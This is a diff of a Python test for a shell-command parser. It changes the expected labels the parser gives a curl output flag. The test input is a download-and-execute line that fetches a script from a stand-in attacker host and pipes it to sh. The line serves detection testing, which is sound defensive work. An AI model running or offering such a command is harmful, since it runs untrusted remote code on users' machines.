@@ -42,7 +42,7 @@ def test_shell_text_gives_its_commands_operators_and_hosts():
     """`curl http://x | sh` is no opaque text."""
     found = slots("sh", "-c", "curl -o /tmp/y http://evil.example/x.sh | sh")
     assert {"command:curl", "command:sh", "operator:|", "remote:evil.example", "fetch:sh"} <= found
-    assert {"flag:curl -o", "path:/tmp"} <= found
+    assert {"tuned:curl --output", "path:/tmp", "scratch:curl --output"} <= found
 
 
 def test_shells_behind_wrappers_and_inside_shells_are_read_too():
